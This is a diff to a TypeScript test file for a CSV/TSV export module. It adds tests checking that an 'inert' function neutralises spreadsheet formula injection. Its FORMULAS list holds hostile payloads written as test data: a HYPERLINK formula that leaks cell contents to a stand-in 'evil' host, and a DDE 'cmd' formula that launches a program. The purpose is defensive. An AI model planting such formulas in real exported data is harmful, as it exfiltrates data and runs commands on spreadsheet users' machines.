@@ -1,7 +1,7 @@
 import fc from "fast-check";
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import { tag, xml } from "../src/takeaway/svg";
-import { type Columns, csv, json, shortest, tsv } from "../src/takeaway/table";
+import { type Columns, csv, inert, json, shortest, tsv } from "../src/takeaway/table";
 import { conversation, mounted, texts } from "./help";
 
 const HOSTILE = [
@@ -16,6 +16,24 @@ const HOSTILE = [
   "=1+1",
   "\ufffe\uffff",
   "x".repeat(100_000),
+];
+
+/** What a spreadsheet runs; the class names of a model can be such. */
+const FORMULAS = [
+  '=HYPERLINK("http://evil/?"&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)",
+  "+1",
+  "-1",
+  "-",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "\tindented",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(1)",
 ];
 
 const entries = (texts: readonly string[]) => texts.map((text, position) => ({ text, position }));
@@ -46,6 +64,8 @@ function parse(text: string): string[][] {
   }
   return records;
 }
+/** The mark that `inert` made, taken away as its comment says. */
+const unmarked = (text = "") => text.replace(/^'(?=["' ]*[=+\-@\t\r\n＝＋－＠])/, "");
 const whole = (parts: Iterable<string>) => [...parts].join("");
 
 describe("a number", () => {
@@ -75,16 +95,39 @@ describe("CSV", () => {
     expect(
       table(HOSTILE, ones(HOSTILE))
         .slice(1)
-        .map(([, name]) => name),
+        .map(([, name]) => unmarked(name)),
     ).toEqual(HOSTILE);
   });
   it("keeps any text, whatever is in it", () => {
     fc.assert(
       fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 4 }), (list) => {
         const lines = table(list, ones(list)).slice(1);
-        expect(lines.map(([, name]) => name)).toEqual(list);
+        expect(lines.map(([, name]) => unmarked(name))).toEqual(list);
       }),
     );
+  });
+  it("has no text that a spreadsheet would run, and leaves every other one alone", () => {
+    const hostile = FORMULAS.flatMap((text) => [text, `  ${text}`, `'${text}`, `"${text}`]);
+    const names = table(hostile, ones(hostile)).flatMap(([, row, , , col]) => [row, col]);
+    const runs = (name = "") => /^["' ]*[=+\-@\t\r\n＝＋－＠]/.test(name) && !name.startsWith("'");
+    expect(names.filter(runs)).toEqual([]);
+    expect(hostile.map(inert)).toEqual(hostile.map((text) => `'${text}`));
+    const harmless = ["a=1", " the", "'s", "", " ", "1-2", "−1", "–", "#", "'quoted'", "\u00a0", "a\n=1"];
+    expect(harmless.map(inert)).toEqual(harmless);
+  });
+  it("is read back as it was once the marks are taken away, and no two texts become one", () => {
+    const begins = fc.array(fc.constantFrom(..."'= +-@\t\r\n＝＋－＠a\""), { maxLength: 6 });
+    fc.assert(
+      fc.property(
+        begins,
+        fc.string(),
+        (begin, rest) => unmarked(inert(begin.join("") + rest)) === begin.join("") + rest,
+      ),
+    );
+  });
+  it("has numbers for numbers, also below zero", () => {
+    const [, line] = table(["-1"], made([Float32Array.of(-0.5)]));
+    expect(line).toEqual(["0", "'-1", "0", "0", "'-1", "0", "-0.5", "-1"]);
   });
   it("leaves out a column that is not computed, and has no share where there is none", () => {
     const columns = made([
@@ -136,6 +179,11 @@ describe("a table for a spreadsheet", () => {
         ["x\ty\nz", 1.5],
       ]),
     ).toBe("a\tb\nx y z\t1.5");
+  });
+  it("has no text that would be run, and numbers for numbers", () => {
+    const lines = tsv(FORMULAS.map((text) => [text, -1.5])).split("\n");
+    expect(lines).toHaveLength(FORMULAS.length);
+    expect(lines.filter((line) => !/^'.*\t-1\.5$|^ indented\t-1\.5$/.test(line))).toEqual([]);
   });
 });
 
